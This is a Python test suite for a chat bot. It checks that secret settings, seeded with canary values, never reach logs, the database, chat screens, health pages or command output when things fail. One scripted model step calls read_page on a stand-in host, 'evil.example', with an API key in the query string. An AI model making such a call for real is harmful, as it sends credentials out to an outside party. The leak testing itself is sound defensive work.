"""No secret is written anywhere: not in the log at its loudest, not in the database, not on any screen.

Every secret setting holds a value of its own. What goes wrong on the way is chosen so that libraries raise errors
that hold addresses, headers and keys.
"""

from __future__ import annotations

import asyncio
import json
import os
import socket
import sys
from collections.abc import Callable, Mapping
from pathlib import Path

import aiohttp
import pytest
from pydantic import SecretStr

from bot.model.providers import PROVIDERS
from bot.settings import configuration
from playground.faults import Fault
from playground.model import Reply
from tests.conftest import Nursery, RawJson, RawObject
from tests.journeys.conftest import Process, World
from tests.patience import PATIENCE

PASSWORD = "canary-of-the-database-password"
MCP = {
    "a header": "canary-of-an-mcp-header",
    "a header of no telling name": "canary-of-a-plain-header",
    "a password in an address": "canary-of-an-mcp-account",
    "a query": "canary-of-an-mcp-query",
    "a path": "c4n4ryOf7Th3Path9",
    "a variable": "canary-of-an-mcp-variable",
    "a variable of no telling name": "canary-of-a-plain-variable",
    "a flag": "canary-of-an-mcp-flag",
    "a flag with =": "canary-of-another-flag",
    "a header in a flag": "canary-of-a-header-in-a-flag",
    "a variable in an argument": "canary-of-a-variable-in-an-argument",
    "an address in an argument": "canary-of-an-address-in-an-argument",
    "an argument": "c4n4ry-0fAn4rgum3nt5",
}
ACCOUNT = "canary-of-a-base-url"
SHORT = "tiny-c4nary"
"""A password too short to be found by itself."""
PATH = "c4n4ryOf8Base4Url6Path"
QUERY = "canary-of-a-base-urls-query"
PROXY = "canary-of-the-proxys-password"
SERVER = Path(__file__).parents[1] / "tools" / "mcp" / "servers" / "plain.py"


def servers() -> RawObject:
    """An mcp.json with a secret in every place that there is."""
    address = f"http://me:{MCP['a password in an address']}@127.0.0.1:9/mcp/{MCP['a path']}?token={MCP['a query']}"
    headers = {"Authorization": f"Bearer {MCP['a header']}", "X-Who": MCP["a header of no telling name"]}
    arguments = [
        *(str(SERVER), "confess", "--api-key", MCP["a flag"], f"--token={MCP['a flag with =']}"),
        *("--header", f"X-Who: {MCP['a header in a flag']}", "-e", f"WHO={MCP['a variable in an argument']}"),
        *(f"postgresql://me:{MCP['an address in an argument']}@host/db", MCP["an argument"]),
    ]
    variables = {"API_KEY": MCP["a variable"], "WHO": MCP["a variable of no telling name"]}
    return {
        "far": {"url": address, "headers": headers},
        "near": {"command": sys.executable, "args": arguments, "env": variables},
    }


def canaries() -> dict[str, str]:
    """A value for every secret setting of the program."""
    found: dict[str, str] = {}
    for kind in configuration.settings_classes():
        for name, field in kind.model_fields.items():
            if isinstance(field.default, SecretStr):
                found[name.upper()] = f"canary-of-{name.replace('_', '-')}-0123456789"
    return found | {"DATABASES": f"crm=postgresql://reader:{PASSWORD}@127.0.0.1:9/crm"}


@pytest.fixture
def secrets(world: World) -> dict[str, str]:
    """All of them set, also in the world outside; those of the platforms are the emulators' own."""
    own = {name: value for name, value in world.environment().items() if name.endswith("_TOKEN")}
    found = canaries() | own
    (world.data / "mcp.json").write_text(json.dumps({"mcpServers": servers()}))
    world.settings.update(found, MCP_CONFIG=str(world.data / "mcp.json"), LOG_LEVEL="DEBUG", TOOL_MODE="native")
    world.settings.update(IMAGE_MODEL="openai:gpt-image-1", IMAGE_BASE_URL=world.model.base_url)
    return found | {"password": PASSWORD, **MCP}


def written(world: World) -> dict[str, bytes]:
    """Everything that the bot wrote anywhere."""
    files = {
        path.name: path.read_bytes() for path in world.data.iterdir() if path.name.startswith(("parley.db", "log"))
    }
    seen = [
        f"{version.text}\n{version.markup}"
        for server in (world.telegram, world.slack, world.discord)
        for message in server.screen.messages
        if message.author == "bot"
        for version in message.versions
    ]
    told = [json.dumps(request.body, ensure_ascii=False) for request in world.model.requests]
    return files | {"the screens": "\n".join(seen).encode(), "what the model was told": "\n".join(told).encode()}


def assert_nothing_leaks(world: World, secrets: dict[str, str], more: Mapping[str, bytes] | None = None) -> None:
    for place, content in (written(world) | dict(more or {})).items():
        for name, value in secrets.items():
            for form in {value, value.partition(":")[2] or value, json.dumps(value)[1:-1]}:
                at = content.find(form.encode())
                assert at < 0, f"{name} stands in {place}: {content[max(0, at - 200) : at + 80]!r}"


def call(tool: str, **arguments: RawJson) -> Reply:
    return Reply(calls=((tool, arguments),))


def journeys(world: World, secrets: dict[str, str]) -> dict[str, Callable[[bool], Reply]]:
    """What the model does for the question of this name, before and after its tool has answered."""
    key = secrets["OPENAI_API_KEY"]
    refused = Reply.refusal(401, f"Incorrect API key provided: {key}. Header was Bearer {key}", code="invalid_api_key")
    lost = Reply.refusal(400, f"POST https://user:{PASSWORD}@proxy.example/v1?key={key} failed")
    return {
        "search": lambda done: Reply("Found.") if done else call("search_web", query=key),
        "page": lambda done: Reply("Read.") if done else call("read_page", url=f"https://evil.example/?{key}"),
        "database": lambda done: Reply("Read.") if done else call("query_database", sql="SELECT 1"),
        "image": lambda done: Reply("Drawn.") if done else call("generate_image", prompt="a fox"),
        "fact": lambda done: Reply("Kept.") if done else call("remember", fact=f"the key is {key}"),
        "later": lambda done: Reply("Set.") if done else call("remind_me", text=key, delay="1 second"),
        "unknown": lambda done: Reply("None.") if done else call("no_such_tool", words=key),
        "broken": lambda done: Reply("Sorry.") if done else Reply(calls=(("calculator", f'{{"expression": "{key}'),)),
        "refused": lambda done: refused,
        "lost": lambda done: lost,
        "dropped": lambda done: Reply(f"The key is {key} and then", drop_after=12),
        "error": lambda done: Reply("x", error_object=0, error={"message": f"Bearer {key} is over its limit"}),
        "confession": lambda done: Reply("Well.") if done else call("near_echo"),
        "told": lambda done: Reply(
            f"It is {key}, {PASSWORD} and {MCP['a header']}.", reasoning=f"My keys are {key} {' '.join(MCP.values())}."
        ),
    }


async def test_no_secret_is_written_anywhere_whatever_fails(
    world: World, process: Process, secrets: dict[str, str]
) -> None:
    plans = journeys(world, secrets)

    def script(body: RawJson) -> Reply:
        asked = " ".join(str(message["content"]) for message in body["messages"] if message["role"] == "user")
        name = asked.rsplit("about ", 1)[-1].split()[0]
        return plans[name](body["messages"][-1]["role"] == "tool")

    world.model.script = script
    world.tavily.faults.add("search", Fault(status=200, body="this is no JSON"), times=2)
    world.model.faults.add(
        "images", Fault(status=500, body=json.dumps({"error": {"message": secrets["OPENAI_API_KEY"]}}))
    )
    telegram = world.telegram
    telegram.faults.add("setMyCommands", Fault(drop="before"))
    telegram.faults.add("sendChatAction", Fault(status=502), times=3)
    telegram.faults.add("editMessageText", Fault(drop="before"), times=2)
    telegram.faults.add("sendMessage", Fault(status=500), times=2)
    world.slack.faults.add("chat.update", Fault(status=500), times=2)
    world.discord.faults.add("POST /channels/{channel}/messages", Fault(status=500), times=2)
    await process.start()
    await world.slack.sockets.until_connected(1)
    await world.discord.gateway.until_ready(1)
    world.slack.person("U7", "Ada")
    world.discord.person(7, "Ada")
    channel, place = world.slack.direct("U7"), world.discord.direct(7)
    for number, name in enumerate(plans, 100):
        telegram.person(number, "Ada")
        telegram.say(number, f"please do something about {name} {secrets['TAVILY_API_KEY']}", person=number)
    telegram.say(100, f"/{secrets['ARK_API_KEY']}", person=100)
    telegram.say(101, f"/model {secrets['ARK_API_KEY']}", person=101)
    world.slack.say(channel, "please do something about told", person="U7")
    world.discord.say(place, "please do something about told", person=7)

    def answered() -> bool:
        chats = [telegram.screen.of(str(number)) for number in range(100, 100 + len(plans))]
        others = [world.slack.screen.of(channel), world.discord.screen.of(place.id)]
        return all(chats) and all(others) and any("⏰" in one.text for one in telegram.screen.of("105"))

    async with asyncio.timeout(PATIENCE):
        while not answered():
            await asyncio.sleep(0.02)
    assert await process.stop() == 0

    assert "DEBUG" in process.said and "[secret removed]" in written(world)["parley.db"].decode(errors="replace")
    assert_nothing_leaks(world, secrets)


@pytest.fixture
def free_port() -> int:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return int(probe.getsockname()[1])


@pytest.fixture
def nowhere(world: World) -> dict[str, str]:
    """Settings that lead nowhere, with a secret in every address."""

    keyed = ("slack_", "discord_", *(f"{name}_" for name in PROVIDERS))
    urls = {
        name.upper(): f"http://127.0.0.1:9/{PATH}/v1" if name.startswith(keyed) else f"http://me:{SHORT}@127.0.0.1:9/x"
        for kind in configuration.settings_classes()
        for name in kind.model_fields
        if name.endswith("_url") and name not in ("database_url", "telegram_webhook_url", "slack_install_url")
    }
    urls |= {"TELEGRAM_API_BASE_URL": f"http://me:{ACCOUNT}@127.0.0.1:9"}
    urls |= {"TAVILY_API_BASE_URL": f"http://127.0.0.1:9/?key={QUERY}"}
    return urls | {"https_proxy": f"http://me:{PROXY}@127.0.0.1:9"}


@pytest.mark.parametrize("form", ["console", "json"])
async def test_no_secret_is_written_when_no_platform_can_be_reached(
    form: str, world: World, process: Process, secrets: dict[str, str], nowhere: dict[str, str], free_port: int
) -> None:
    """Telegram's token is part of every address, and addresses are part of errors."""
    world.settings.update(nowhere, LOG_FORMAT=form, HTTP_PORT=str(free_port))
    secrets |= {"account": ACCOUNT, "short": SHORT, "path": PATH, "query": QUERY, "proxy": PROXY}
    await process.start()

    async with asyncio.timeout(PATIENCE):
        while not all(f"{name} receives nothing now" in process.said for name in ("telegram", "slack", "discord")):
            await asyncio.sleep(0.02)
    pages = {}
    async with aiohttp.ClientSession() as session:
        for path in ("/health", "/ready", "/state", "/metrics"):
            async with session.get(f"http://127.0.0.1:{free_port}{path}") as answer:
                pages[path] = await answer.read()
    await process.stop()

    assert b"unreachable: Telegram at http://me:[secret removed]@127.0.0.1:9 does not answer" in pages["/ready"]
    assert_nothing_leaks(world, secrets, pages)


TOOLS = [
    (),
    ("near_echo",),
    ("get_weather", '{"place": "Oslo"}'),
    ("query_database", '{"sql": "SELECT 1"}'),
    ("search_web", '{"query": "x"}'),
]
COMMANDS = [
    ("bot", "doctor"),
    *(("bot", "tools", *tool) for tool in TOOLS),
    *(("tools", *tool) for tool in TOOLS),
    ("bot", "chats"),
    ("bot", "chats", "export", "telegram:1/2"),
]


@pytest.mark.parametrize("command", COMMANDS, ids=" ".join)
async def test_no_command_shows_a_secret(
    command: tuple[str, ...], world: World, nursery: Nursery, secrets: dict[str, str], nowhere: dict[str, str]
) -> None:
    world.settings.update(nowhere)
    secrets |= {"account": ACCOUNT, "short": SHORT, "path": PATH, "query": QUERY, "proxy": PROXY}
    environment = {"PATH": os.environ["PATH"], "HOME": str(world.data), **world.environment()}

    told = await nursery.talk(*command, folder=world.data, environment=environment)

    assert "Traceback" not in told.err
    assert_nothing_leaks(world, secrets, {"output": told.out.encode(), "errors": told.err.encode()})


KEY = "sk-c4n4ryOfAKeyInAWrongPlace123"


@pytest.mark.parametrize(
    ("settings", "words"),
    [
        ({"DATABASE_URL": f"mysql://root:{KEY}@db.example/parley"}, "DATABASE_URL"),
        ({"DATABASE_URL": f"mysql://root:{SHORT}@db.example/parley"}, "DATABASE_URL"),
        ({"DATABASE_URL": KEY}, "DATABASE_URL"),
        ({"OPENAI_BASE_URL": f"http://me:{SHORT}@h/v1", "MODEL": "openai:x"}, "OPENAI_BASE_URL"),
        ({"OPENAI_BASE_URL": f"//me:{KEY}@h/v1", "MODEL": "openai:x"}, "OPENAI_BASE_URL"),
        ({"OPENAI_BASE_URL": KEY, "MODEL": "openai:x"}, "OPENAI_BASE_URL"),
        ({"HTTP_PORT": KEY, "OPENAI_API_KEY": KEY}, "HTTP_PORT"),
        ({"MODEL": f"nobody:{KEY}", "OPENAI_API_KEY": KEY}, "MODEL"),
        ({"ALLOWED_USERS": KEY, "ARK_API_KEY": KEY}, "ALLOWED_USERS"),
        ({".env": KEY}, "sets nothing"),
        ({".env": f"{KEY}=="}, "sets nothing"),
        ({".env": f"OPENAI_API_KEY={KEY}\n{KEY.upper()}=1"}, "sets nothing"),
    ],
)
def test_no_complaint_about_a_setting_shows_a_secret(
    settings: dict[str, str], words: str, nursery: Nursery, tmp_path: Path
) -> None:
    if text := settings.pop(".env", ""):
        (tmp_path / ".env").write_text(text)
    environment = {"PATH": os.environ["PATH"], "HOME": str(tmp_path), "TELEGRAM_BOT_TOKEN": "1:a", "MODEL": "ollama:x"}

    told = nursery.run("bot", "run", folder=tmp_path, environment={**environment, **settings})

    assert told.code == 2
    assert words in told.err and "Traceback" not in told.err
    assert KEY.lower() not in told.err.lower() and SHORT not in told.err
